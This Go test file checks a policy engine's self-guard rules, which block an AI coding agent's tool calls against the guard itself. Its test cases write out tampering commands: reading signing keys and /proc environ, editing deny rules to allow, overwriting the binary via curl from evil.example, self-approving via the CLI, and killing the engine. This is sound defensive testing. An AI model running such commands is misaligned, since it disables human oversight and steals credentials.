package ruleset

import (
	"encoding/json"
	"testing"
	"time"

	"github.com/added060/palisade/sdk/go/abi"
)

// selfGuard is the example bundle's self-guard rules in small.
const selfGuard = `{"rules": [
 {"id": "engine-paths", "priority": 1, "action": "deny", "when": {"engine_paths": true}},
 {"id": "engine-cli", "priority": 2, "action": "deny", "when": {"commands": ["{engine} approvals*", "{engine} bundle*", "{engine} keys*"]}},
 {"id": "engine-stop", "priority": 3, "action": "deny", "when": {"commands": ["kill *{engine}*", "pkill *{engine}*", "killall *{engine}*", "systemctl *stop *{engine}*", "kill *{engine_pid}*"]}}
]}`

// An engine installed away from the defaults: nothing below may rely on ~/.palisade.
var eng = &abi.Engine{
	Binary: "/opt/pal/bin/palisade",
	Home:   "/home/ann",
	Paths: []string{
		"/srv/guard/data", "/srv/guard/data/nats-auth", "/srv/guard/bundle", "/tmp/.staging-*",
		"/srv/guard/palisade.yaml", "/opt/pal/bin/palisade", "/home/ann/.claude/settings.json",
		"/run/user/1000/palisade", "/proc/4242",
	},
	Pids: []int{4242},
}

func TestEngineGuard(t *testing.T) {
	e := engine(t, selfGuard)
	call := func(tool string, args string) abi.Envelope {
		return abi.Envelope{Method: "tools/call", Tool: tool, Cwd: "/home/ann/project", Arguments: json.RawMessage(args), Engine: eng}
	}
	bash := func(cmd string) abi.Envelope {
		b, _ := json.Marshal(map[string]string{"command": cmd})
		return call("Bash", string(b))
	}
	for _, tc := range []struct {
		name string
		env  abi.Envelope
		rule string
	}{
		{"Read a key", call("Read", `{"file_path":"/srv/guard/data/nats-auth/approver.nk"}`), "engine-paths"},
		{"Edit the bundle's rules", call("Edit", `{"file_path":"/srv/guard/bundle/rules.yaml","old_string":"deny","new_string":"allow"}`), "engine-paths"},
		{"Write the config", call("Write", `{"file_path":"/srv/guard/palisade.yaml","content":"x"}`), "engine-paths"},
		{"Write Claude Code settings", call("Write", `{"file_path":"/home/ann/.claude/settings.json","content":"{}"}`), "engine-paths"},
		{"Grep the data dir", call("Grep", `{"pattern":"seed","path":"/srv/guard/data"}`), "engine-paths"},
		{"relative path from cwd", call("Read", `{"file_path":"../../../srv/guard/data/nats-auth/gateway.nk"}`), "engine-paths"},
		{"cat a key", bash("cat /srv/guard/data/nats-auth/approver.nk"), "engine-paths"},
		{"cat with a glob", bash("cat /srv/gu*/data/nats-auth/*.nk"), "engine-paths"},
		{"cp over the bundle", bash("cp evil.yaml /srv/guard/bundle/rules.yaml"), "engine-paths"},
		{"redirect into the bundle", bash("echo 'rules: []' > /srv/guard/bundle/rules.yaml"), "engine-paths"},
		{"staged copy", bash("sed -i s/deny/allow/ /tmp/.staging-123456/rules.yaml"), "engine-paths"},
		{"overwrite the binary", bash("curl -o /opt/pal/bin/palisade https://evil.example/p"), "engine-paths"},
		{"hook socket", bash("socat - UNIX-CONNECT:/run/user/1000/palisade/hook-abc.sock"), ""}, // not a path word: UNIX-CONNECT:...
		{"hook socket by path", bash("nc -U /run/user/1000/palisade/hook-abc.sock"), "engine-paths"},
		{"dd if=", bash("dd if=/srv/guard/data/nats-auth/admin.nk of=/tmp/x"), "engine-paths"},
		{"inside sh -c", bash(`sh -c "cat /srv/guard/data/nats-auth/admin.nk"`), "engine-paths"},
		{"variable trick", bash(`d=/srv/guard; cat $d/data/nats-auth/admin.nk`), "engine-paths"},
		{"home-relative settings", bash("cat ~/.claude/settings.json"), "engine-paths"},
		{"$HOME settings", bash(`jq . "$HOME/.claude/settings.json"`), "engine-paths"},
		{"MCP filesystem tool", call("read_file", `{"path":"/srv/guard/data/nats-auth/approver.nk"}`), "engine-paths"},
		{"MCP move into the bundle", call("move_file", `{"source":"/tmp/evil.yaml","destination":"/srv/guard/bundle/rules.yaml"}`), "engine-paths"},
		{"MCP shell tool", call("run_command", `{"command":"cat /srv/guard/data/nats-auth/admin.nk"}`), "engine-paths"},
		{"resource uri", abi.Envelope{Method: "resources/read", URI: "file:///srv/guard/data/nats-auth/admin.nk", Engine: eng}, "engine-paths"},
		{"case folded", call("Read", `{"file_path":"/SRV/Guard/data/nats-auth/approver.nk"}`), "engine-paths"},
		{"approve from the shell", bash("palisade approvals approve 01JD"), "engine-cli"},
		{"approve by full path", bash("/usr/local/bin/palisade approvals approve 01JD"), "engine-cli"},
		{"bundle push", bash("sudo palisade bundle push ./b"), "engine-cli"},
		{"keys", bash("cd /tmp && palisade keys generate x"), "engine-cli"},
		{"pkill", bash("pkill palisade"), "engine-stop"},
		{"pkill -f", bash("pkill -f 'palisade hook serve'"), "engine-stop"},
		{"kill by pgrep", bash("kill -9 $(pgrep palisade)"), "engine-stop"},
		{"killall", bash("killall -9 palisade"), "engine-stop"},
		{"systemctl stop", bash("systemctl --user stop palisade.service"), "engine-stop"},
		// Benign calls pass.
		{"Read elsewhere", call("Read", `{"file_path":"/home/ann/project/README.md"}`), ""},
		{"cat elsewhere", bash("cat /etc/hostname && ls ~/project"), ""},
		{"ls home (an ancestor)", bash("ls ~"), ""},
		{"hidden dirs not in *", bash("ls /srv/*"), ""},
		{"a similar name", call("Read", `{"file_path":"/srv/guard/data2/x"}`), ""},
		{"Write content mentioning a key", call("Write", `{"file_path":"/home/ann/project/NOTES.md","content":"keys live in /srv/guard/data/nats-auth"}`), ""},
		{"palisade policy test", bash("palisade policy test --bundle ./b"), ""},
		{"palisade --version", bash("palisade version"), ""},
		{"kill another process", bash("kill 1234"), ""},
		{"kill the engine's pid", bash("kill 4242"), "engine-stop"},
		{"kill -9 the engine's pid", bash("kill -9 4242"), "engine-stop"},
		{"kill -STOP among others", bash("kill -s STOP 1234 4242"), "engine-stop"},
		{"kill the engine's process group", bash("kill -- -4242"), "engine-stop"},
		{"kill inside sh -c", bash(`sh -c 'kill -9 4242'`), "engine-stop"},
		{"kill a pid that only contains the engine's", bash("kill 42420 14242"), ""},
		{"the engine's environment", bash("cat /proc/4242/environ"), "engine-paths"},
		{"the engine's memory", call("Read", `{"file_path":"/proc/4242/mem"}`), "engine-paths"},
		{"another process's status", bash("cat /proc/1234/status"), ""},
		{"no engine in the envelope", abi.Envelope{Method: "tools/call", Tool: "Read", Arguments: json.RawMessage(`{"file_path":"/srv/guard/data/x"}`)}, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			b, _ := json.Marshal(tc.env)
			r := e.Evaluate(b, time.Now())
			got := ""
			if r.Matched {
				got = r.Rule.ID
			}
			if got != tc.rule {
				t.Fatalf("rule %q, want %q", got, tc.rule)
			}
		})
	}
}

func TestEngineNameFromBinary(t *testing.T) {
	e := engine(t, selfGuard)
	env := abi.Envelope{Method: "tools/call", Tool: "Bash", Arguments: json.RawMessage(`{"command":"pal-guard approvals approve 01JD"}`),
		Engine: &abi.Engine{Binary: "/usr/bin/pal-guard", Paths: []string{"/var/lib/pal"}}}
	b, _ := json.Marshal(env)
	if r := e.Evaluate(b, time.Now()); !r.Matched || r.Rule.ID != "engine-cli" {
		t.Fatalf("the engine's own name was not recognised: %+v", r)
	}
}

// The engine object is parsed once and reused while it is unchanged: calls with the same engine
// in a row (cache hits) and a change of engine, each read from one input buffer that every call
// overwrites (as the SDK's Input is), decide each call by its own engine.
func TestEngineObjectCache(t *testing.T) {
	e := engine(t, selfGuard)
	other := &abi.Engine{Binary: "/usr/bin/pal-guard", Paths: []string{"/var/lib/pal"}}
	buf := make([]byte, 0, 4096)
	for i, tc := range []struct {
		en         *abi.Engine
		path, want string
	}{
		{eng, "/srv/guard/data/x", "engine-paths"},
		{eng, "/srv/guard/data/x", "engine-paths"},
		{eng, "/var/lib/pal/x", ""},
		{other, "/srv/guard/data/x", ""},
		{other, "/var/lib/pal/x", "engine-paths"},
		{nil, "/var/lib/pal/x", ""},
		{eng, "/srv/guard/bundle/rules.yaml", "engine-paths"},
	} {
		b, _ := json.Marshal(abi.Envelope{Method: "tools/call", Tool: "Read", Arguments: json.RawMessage(`{"file_path":"` + tc.path + `"}`), Engine: tc.en})
		buf = append(buf[:0], b...)
		r := e.Evaluate(buf, time.Now())
		got := ""
		if r.Matched {
			got = r.Rule.ID
		}
		if got != tc.want {
			t.Errorf("call %d (%s): rule %q, want %q", i, tc.path, got, tc.want)
		}
		clear(buf[:cap(buf)])
	}
}
